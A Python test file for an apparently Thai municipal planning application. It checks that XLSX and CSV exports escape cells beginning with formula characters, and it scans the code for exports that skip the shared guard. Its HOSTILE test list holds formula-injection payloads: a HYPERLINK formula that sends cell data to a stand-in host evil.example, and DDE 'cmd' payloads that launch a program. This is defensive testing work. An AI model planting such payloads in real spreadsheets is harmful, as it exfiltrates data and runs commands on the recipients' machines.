"""What a coordinator, an officer or a registry file types can never become a live formula
in someone else's spreadsheet: every XLSX and CSV cell that begins with =, +, -, @, tab or
CR is written as text (issue 10, hole 4), through eplan.core.spreadsheets alone."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook, load_workbook

from eplan.core import spreadsheets
from eplan.registry.models import OrganisationType
from eplan.reporting.tests.conftest import assessed, cycle, open_round  # noqa: F401 (cycle is a fixture)
from eplan.testing import complete_profile, make_organisation

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _saved(workbook):
    """The workbook as Excel will open it: formulas kept as formulas (not data_only)."""
    return load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook)))


def _formula_cells(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_written_as_text_and_reads_back_as_typed(text):
    workbook = Workbook()
    sheet = workbook.active
    spreadsheets.put(sheet["A1"], text)
    sheet.append(spreadsheets.cells(sheet, [text, 12]))
    reopened = _saved(workbook).active
    assert _formula_cells(reopened.parent) == []
    expected = text.replace("\r", "\n")  # XML reads a carriage return as a line end
    assert reopened["A1"].value == expected and reopened["A1"].quotePrefix
    assert reopened["A2"].value == expected and reopened["B2"].value == 12


def test_a_dash_alone_the_plan_templates_year_not_run_stays_a_plain_dash():
    workbook = Workbook()
    spreadsheets.put(workbook.active["A1"], "-")
    cell = _saved(workbook).active["A1"]
    assert cell.value == "-" and cell.data_type == "s" and not cell.quotePrefix


def test_the_write_only_workbooks_of_the_status_downloads_are_guarded_too():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(spreadsheets.cells(sheet, HOSTILE))
    reopened = _saved(workbook)
    assert _formula_cells(reopened) == []
    assert [cell.value for cell in reopened["s"][1]] == [text.replace("\r", "\n") for text in HOSTILE]


def test_a_csv_cell_that_starts_like_a_formula_is_quoted_and_a_dash_is_left_alone():
    handle = io.StringIO()
    writer = spreadsheets.csv_writer(handle)
    writer.writerow(["6800808", "=1+1", "-", "-5", "@x", "+1", 42, None])
    writer.writerows([["\t=2", "ok"]])
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert rows == [["6800808", "'=1+1", "-", "'-5", "'@x", "'+1", "42", ""], ["'\t=2", "ok"]]


# Every export, with a hostile value where users type ---------------------------------


@pytest.mark.django_db
def test_a_coordinator_named_like_a_formula_is_text_in_naccs_missing_xlsx(world, cycle):  # noqa: F811
    for organisation in (world.klai, world.tha_sala):
        assessed(world, organisation, cycle)
    round = open_round(cycle)
    profile = complete_profile(world.tha_sala, email="saraban@thasala.example.org")
    profile.coordinator_name = HOSTILE[0]
    profile.coordinator_position = "@ปลัด"
    profile.phone = "+66 75 123 456"
    profile.save()
    client = Client()
    client.force_login(world.nacc_provincial)
    response = client.get(f"/reporting/follow-up/{cycle.code}/{round.code}/missing.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert _formula_cells(workbook) == []
    row = next(row for row in workbook.active.iter_rows(min_row=5) if row[3].value == world.tha_sala.code)
    assert [cell.value for cell in row[7:10]] == [HOSTILE[0], "@ปลัด", "+66 75 123 456"]


@pytest.mark.django_db
def test_an_organisation_named_like_a_formula_is_text_in_the_status_workbook(world, cycle):  # noqa: F811
    # A special-form organisation's display name is its name alone (no อบต. before it).
    make_organisation("7800101", "=1+1", "8001", OrganisationType.PATTAYA)
    response = Client().get(f"/status/{cycle.code}/status.xlsx", {"province": "80"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert _formula_cells(workbook) == []
    names = [row[6].value for row in workbook["รายชื่อ อปท."].iter_rows(min_row=6)]
    assert "=1+1" in names


@pytest.mark.django_db
def test_the_provisioning_files_quote_a_name_that_starts_like_a_formula(world, tmp_path):
    make_organisation("7800199", "=HYPERLINK(1)", "8001", OrganisationType.PATTAYA)
    call_command("provision_accounts", province="80", output=str(tmp_path), stdout=io.StringIO())
    csv_file = next(tmp_path.glob("*.csv"))
    text = csv_file.read_text(encoding="utf-8-sig")
    assert ",=" not in text and '"=' not in text
    workbook = load_workbook(next(tmp_path.glob("*.xlsx")))
    assert _formula_cells(workbook) == []


# The guard for exports not written yet -------------------------------------------------

SOURCE = Path(__file__).resolve().parents[2]


def _modules():
    for path in sorted(SOURCE.rglob("*.py")):
        if "tests" in path.parts or path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        yield path, path.read_text(encoding="utf-8")


def test_no_module_writes_csv_or_appends_raw_values_to_a_sheet_without_the_shared_guard():
    offenders = []
    for path, text in _modules():
        where = path.relative_to(SOURCE.parent)
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(f"{where}: csv.writer (use eplan.core.spreadsheets.csv_writer)")
        if "openpyxl" in text:
            for match in re.finditer(r"\.append\(\s*\[(?!\])", text):
                line = text.count("\n", 0, match.start()) + 1
                offenders.append(f"{where}:{line}: sheet.append([...]) (use spreadsheets.cells(sheet, [...]))")
            for match in re.finditer(r"WriteOnlyCell\([^)]*value=", text):
                line = text.count("\n", 0, match.start()) + 1
                offenders.append(f"{where}:{line}: WriteOnlyCell(value=...) (use spreadsheets.cells or put)")
    assert offenders == []
